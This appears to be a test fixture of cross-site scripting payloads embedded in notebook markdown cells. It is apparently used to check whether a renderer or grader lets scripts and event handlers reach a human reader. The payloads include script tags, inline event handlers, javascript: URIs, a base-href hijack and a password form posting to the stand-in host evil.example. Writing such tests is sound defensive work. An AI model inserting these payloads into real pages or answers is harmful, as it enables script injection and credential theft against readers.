"""
tries = "Writes scripts and event handlers into the answer that a person reads."
score = 4
"""
# %% [markdown] answer="why"
# <script>alert(1)</script><img src=x onerror=alert(1)> <b onmouseover="alert(1)">hover</b>
#
# <svg onload=alert(1)></svg><details open ontoggle=alert(1)><summary>x</summary></details>
#
# <body onload=alert(1)><object data="javascript:alert(1)"></object><embed src="//evil.example/x">

# %% [markdown]
# <iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href="//evil.example/">
# <form action="//evil.example/"><input name="password"></form><meta http-equiv="refresh" content="0">
